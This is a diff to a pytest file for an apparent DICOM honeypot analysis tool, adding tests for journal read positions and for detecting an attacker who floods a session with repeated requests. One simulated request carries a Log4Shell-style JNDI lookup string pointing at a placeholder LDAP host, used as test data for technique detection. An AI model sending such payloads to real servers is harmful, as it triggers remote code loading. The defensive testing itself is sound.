@@ -17,11 +17,12 @@ from typing import Any
 import pytest
 from sqlalchemy import Engine, select
 
-from dicomhawk.analyst import writing
+from dicomhawk.analyst import flood, writing
 from dicomhawk.analyst.database import search
-from dicomhawk.analyst.database.schema import metadata, origins, sessions
+from dicomhawk.analyst.database.schema import ae_titles, metadata, origins, sessions, techniques
 from dicomhawk.analyst.database.store import open_database
 from dicomhawk.analyst.service import Service
+from dicomhawk.evidence.place import read_place
 from dicomhawk.settings import Settings
 from tests.analyst.journals import Sensor, echo, lines
 from tests.analyst.postgres import Server, postgres
@@ -167,6 +168,12 @@ def test_several_sensors_in_one_database(tmp_path: Path, url: str) -> None:
         assert actor
 
 
+def test_the_sensor_is_told_how_far_its_journal_was_read(tmp_path: Path, url: str) -> None:
+    journal = a_month(1, 20).write(tmp_path / "journal")
+    analysed(tmp_path, url)
+    assert read_place(tmp_path) == {path.name: path.stat().st_size for path in journal.iterdir()}
+
+
 def test_what_a_visitor_said_can_be_searched_for(tmp_path: Path, url: str) -> None:
     a_month(1, 60).write(tmp_path / "journal")
     engine = analysed(tmp_path, url)
@@ -210,6 +217,29 @@ def test_a_session_that_can_not_be_analysed_keeps_nobody_waiting(
     assert rows["162.142.125.9"].depth == "scan"
     assert not any(row.stale for row in rows.values())
     assert "ZeroDivisionError" in capsys.readouterr().err
+
+
+def test_nobody_hides_behind_a_flood(tmp_path: Path, url: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    for module, name in ((writing, "MAX_EVENTS"), (flood, "BEGINNING"), (flood, "PART"), (flood, "OF_A_KIND")):
+        monkeypatch.setattr(module, name, 50)
+    told = Sensor()
+    for called in ("A", "B"):
+        told.connection("203.0.113.9", *echo(called) * 60)
+    told.connection("203.0.113.9", *find(matches=5000))
+    told.connection("203.0.113.9", *page("/", "${jndi:ldap://198.51.100.1/a}"))
+    told.connection("203.0.113.9", *echo("A") * 60)
+    told.write(tmp_path / "journal")
+    engine = analysed(tmp_path, url)
+    with engine.connect() as connection:
+        (row,) = connection.execute(select(sessions)).all()
+        met = {each.rule: each for each in connection.execute(select(techniques))}
+        titles = {each.called: each for each in connection.execute(select(ae_titles))}
+    assert (row.depth, row.events, row.connections) == ("collection", len(told.events), 5)
+    assert json.loads(row.commands)["c-echo"] == 180
+    assert row.severity >= 3
+    assert {"D08", "D01"} <= met.keys()
+    assert met["D01"].times > 50
+    assert (titles["A"].accepted, titles["B"].accepted) == (120, 60)
 
 
 @pytest.fixture
